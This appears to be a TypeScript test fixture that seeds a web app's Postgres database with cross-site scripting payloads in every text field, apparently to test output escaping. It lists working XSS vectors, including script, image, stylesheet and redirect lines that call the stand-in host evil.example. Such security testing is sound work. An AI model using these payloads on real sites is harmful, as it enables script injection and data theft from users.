import { randomUUID } from 'node:crypto'
import type { Client } from 'pg'

/** What somebody writes to have it run in another's browser; each short enough for a username. */
export const shortPayloads = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '"><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  "' autofocus onfocus='alert(1)",
  'javascript:alert(1)',
  '{{alert(1)}}${alert(1)}',
]

/** All of them and the long ones, as one text. */
export const longPayload = [
  ...shortPayloads,
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src="https://evil.example/leak.png">',
  '![leak](https://evil.example/leak.png)',
  '<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example/b.png) }</style>',
  '<base href="https://evil.example/"><a href="javascript:alert(1)">here</a>',
  '<form action="https://evil.example/"><button formaction="javascript:alert(1)">Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '</textarea></script><script>alert(1)</script>',
  '\u2028alert(1)//--></style>]]>',
].join(' ')

export type Planted = { username: string; user: string; task: string }

/**
 * Puts the payloads into every field that holds text, behind the back of whatever would refuse them. Answers the
 * users who carry them.
 */
export async function plantPayloads(database: Client): Promise<Planted[]> {
  const planted: Planted[] = []
  const criteria = JSON.stringify([
    { id: 'answers', label: longPayload, level: 'full', evidence: [longPayload], points: 36, outOf: 36 },
  ])
  for (const payload of shortPayloads) {
    const [user, task] = [randomUUID(), randomUUID()]
    await database.query('BEGIN')
    await database.query(
      `INSERT INTO "User" ("id", "username", "usernameKey", "passwordHash", "streak", "streakDay", "email")
       SELECT $1, $2, lower($2), "passwordHash", 3, current_date, '"<b>"@example.org' FROM "User" WHERE "usernameKey" = 'emma'`,
      [user, payload],
    )
    await database.query(
      `INSERT INTO "PointEntry" ("id", "memberId", "amount", "kind", "key", "title", "day", "createdAt")
       VALUES ($1, $2, 5000, 'task', $3, $3, current_date, now())`,
      [randomUUID(), user, payload],
    )
    await database.query('COMMIT')
    await database.query(
      `INSERT INTO "Task" ("id", "assigneeId", "title", "description", "date", "expiresAt", "updatedAt", "response", "feedback", "score", "status")
       VALUES ($1, $2, $3, $4, (now() AT TIME ZONE 'Europe/Paris')::date, now() + interval '2 days', now(), $4, $4, 12, 'rejected')`,
      [task, user, payload, longPayload],
    )
    await database.query(
      `INSERT INTO "Submission" ("id", "taskId", "memberId", "text", "textHash", "subjectHash", "score", "isAccepted",
         "feedback", "reasoning", "criteria", "evaluator", "promptVersion", "evaluatedAt", "confirmedAt")
       VALUES ($1, $2, $3, $4, '', '', 12, false, $4, $4, $5, $6, 'x', now(), now())`,
      [randomUUID(), task, user, longPayload, criteria, payload],
    )
    await database.query(
      `INSERT INTO "Decision" ("id", "taskId", "memberId", "before", "isAccepted", "reason", "decidedAt", "revision")
       VALUES ($1, $2, $3, 'pending', false, $4, now(), 1)`,
      [randomUUID(), task, user, longPayload.slice(0, 900)],
    )
    await database.query(
      `INSERT INTO "RecurringRule" ("id", "assigneeId", "title", "description", "anchor", "interval", "expiry", "extendedTo")
       VALUES ($1, $2, $3, $4, current_date + 30, 'daily', 'same_day', current_date + 30)`,
      [randomUUID(), user, payload, longPayload],
    )
    await database.query(
      `INSERT INTO "EmailMessage" ("id", "to", "from", "subject", "html", "outcome", "error")
       VALUES ($1, $2, $2, $2, $3, 'failed', $3)`,
      [randomUUID(), payload, longPayload],
    )
    await database.query(
      `INSERT INTO "AccessToken" ("id", "userId", "name", "tokenHash", "hint", "scope", "createdAt", "expiresAt")
       VALUES ($1::uuid, $2, $3, $1::text, '<b>x', 'read', now(), now() + interval '9 days')`,
      [randomUUID(), user, payload],
    )
    await database.query(
      `INSERT INTO "SignIn" ("id", "userId", "outcome", "address", "agent", "at") VALUES ($1, $2, 'wrong_password', $3, $3, now())`,
      [randomUUID(), user, payload],
    )
    planted.push({ username: payload, user, task })
  }
  return planted
}
